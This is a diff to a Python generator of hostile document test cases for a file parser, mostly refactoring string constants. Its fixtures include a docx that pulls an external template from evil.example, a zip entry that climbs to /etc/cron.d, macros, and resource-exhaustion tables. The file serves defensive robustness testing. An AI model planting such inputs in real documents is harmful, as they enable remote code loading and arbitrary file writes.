@@ -17,6 +17,7 @@ XLSX = f"{_OPEN}.spreadsheetml.sheet"
 PPTX = f"{_OPEN}.presentationml.presentation"
 EPUB = "application/epub+zip"
 ODT = "application/vnd.oasis.opendocument.text"
+SCHEMAS = "http://schemas.openxmlformats.org"
 MEGABYTE = 1_000_000
 TOO_LARGE = "too_large: unpacks to more"
 ENTITIES = "unsupported: entities"
@@ -147,7 +148,8 @@ def _office() -> Iterator[Case]:
     )
     table = "<w:tbl><w:tr><w:tc>" * 45 + word_paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 45
     yield Case("docx with tables nested 45 deep", DOCX, zipped(docx_parts(table)))
-    wide = f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>{word_paragraph("x")}</w:tc></w:tr></w:tbl>'
+    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>{word_paragraph("x")}</w:tc>'
+    wide = f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>"
     yield Case("docx with a cell a billion wide", DOCX, zipped(docx_parts(wide)))
     yield Case("docx with 20,000 paragraphs", DOCX, zipped(docx_parts(word_paragraph("Rivers.") * 20_000)))
     yield Case(
@@ -157,9 +159,14 @@ def _office() -> Iterator[Case]:
     )
     yield Case("docx with macros", DOCX, repacked(good, {"word/vbaProject.bin": b"\xd0\xcf" * 500}), notes="macros")
     yield Case("docx that climbs out", DOCX, repacked(good, {"../../../etc/cron.d/x.xml": "<a/>"}))
-    loop = '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="paragraph" w:styleId="Heading1"><w:basedOn w:val="Heading1"/></w:style></w:styles>'
+    style = '<w:style w:type="paragraph" w:styleId="Heading1"><w:basedOn w:val="Heading1"/></w:style>'
+    loop = f'<w:styles xmlns:w="{SCHEMAS}/wordprocessingml/2006/main">{style}</w:styles>'
     yield Case("docx with a style based on itself", DOCX, repacked(good, {"word/styles.xml": loop}))
-    away = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+    away = (
+        f'<Relationships xmlns="{SCHEMAS}/package/2006/relationships"><Relationship Id="rId1" TargetMode="External" '
+        f'Type="{SCHEMAS}/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"/>'
+        "</Relationships>"
+    )
     yield Case("docx with a foreign template", DOCX, repacked(good, {"word/_rels/document.xml.rels": away}))
     slides = [("Title", ["text"])] * 1000
     yield Case("pptx of 1,000 slides", PPTX, archives.pptx(slides))
@@ -250,5 +257,5 @@ def _books() -> Iterator[Case]:
     yield Case(
         "epub that climbs out", EPUB, repacked(good, {"META-INF/container.xml": climbing}), "drift: package document"
     )
-    drm = '<encryption xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:CipherReference URI="OEBPS/text/a.xhtml"/></encryption>'
+    drm = '<encryption xmlns:e="http://e"><e:CipherReference URI="OEBPS/text/a.xhtml"/></encryption>'
     yield Case("epub with DRM", EPUB, repacked(good, {"META-INF/encryption.xml": drm}), "unsupported: DRM")
